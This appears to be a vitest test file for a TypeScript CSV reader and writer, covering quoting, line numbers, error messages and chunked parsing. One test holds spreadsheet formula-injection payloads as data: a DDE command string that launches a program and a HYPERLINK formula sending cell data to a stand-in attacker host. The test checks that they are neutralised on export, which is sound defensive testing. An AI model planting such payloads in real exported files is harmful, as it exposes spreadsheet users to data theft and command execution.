import { describe, expect, it } from 'vitest';
import { CsvReader, CsvSyntaxError, parseCsv, toCsv } from './csv';

describe('CSV', () => {
  it('parses quoted fields, doubled quotes, CRLF, a BOM and blank lines, keeping line numbers', () => {
    const text = '\uFEFFa,b,c\r\n1, two ,"thr,ee"\r\n\r\n"multi\nline","say ""hi""",\n';
    expect(parseCsv(text)).toEqual([
      { line: 1, cells: ['a', 'b', 'c'] },
      { line: 2, cells: ['1', 'two', 'thr,ee'] },
      { line: 4, cells: ['multi\nline', 'say "hi"', ''] },
    ]);
  });

  it('refuses broken quoting with the line', () => {
    expect(() => parseCsv('a,b\n1,"open')).toThrow(CsvSyntaxError);
    expect(() => parseCsv('a,b\n1,x"y"')).toThrow(/line 2/);
    expect(() => parseCsv('"a"b')).toThrow(/after a closing quote/);
  });

  it('writes what it reads', () => {
    const csv = toCsv(
      ['code', 'note'],
      [
        ['88', 'a, "quoted" note'],
        ['8801', null],
      ],
    );
    expect(csv).toBe('code,note\r\n88,"a, ""quoted"" note"\r\n8801,\r\n');
    expect(parseCsv(csv).map((r) => r.cells)).toEqual([
      ['code', 'note'],
      ['88', 'a, "quoted" note'],
      ['8801', ''],
    ]);
  });

  it('writes text a spreadsheet would run as a formula as inert text, and reads it back unchanged', () => {
    const dangerous = [`=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?x="&A2,"s")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\r=CR'];
    const csv = toCsv(
      ['source', 'value'],
      dangerous.map((text) => [text, -5]),
    );
    const lines = parseCsv(csv).slice(1);
    // Every dangerous cell starts with an apostrophe in the file; numbers stay numbers.
    for (const record of csv.split('\r\n').slice(1, -1)) expect(record).toMatch(/^"?'/);
    expect(csv).toContain(',-5\r\n');
    expect(lines.map((r) => r.cells)).toEqual(dangerous.map((text) => [text, '-5']));
  });

  it('leaves ordinary text alone', () => {
    expect(toCsv(['a'], [['Statistics bureau'], ["it's fine"], ['1-2']])).toBe("a\r\nStatistics bureau\r\nit's fine\r\n1-2\r\n");
  });

  it('reads a file pushed in chunks exactly as the whole file, wherever the chunks split it', () => {
    const texts = ['\uFEFFa,b,c\r\n1, two ,"thr,ee"\r\n\r\n"multi\nline","say ""hi""",\n', 'x,y\r\n"a""",b\r\n"",\r\n\'=1,"\r\n"\r'];
    for (const text of texts) {
      const whole = parseCsv(text);
      for (let cut = 0; cut <= text.length; cut++) {
        for (let second = cut; second <= text.length; second += 3) {
          const reader = new CsvReader();
          const records = [];
          for (const chunk of [text.slice(0, cut), text.slice(cut, second), text.slice(second)]) {
            reader.push(chunk);
            records.push(...reader.take());
          }
          records.push(...reader.end());
          expect(records, `cuts at ${cut} and ${second}`).toEqual(whole);
        }
      }
    }
  });

  it('refuses broken quoting in chunks as in the whole file', () => {
    const reader = new CsvReader();
    reader.push('a,b\n1,"op');
    reader.push('en');
    expect(() => reader.end()).toThrow(/line 2: a quoted field is never closed/);
  });
});
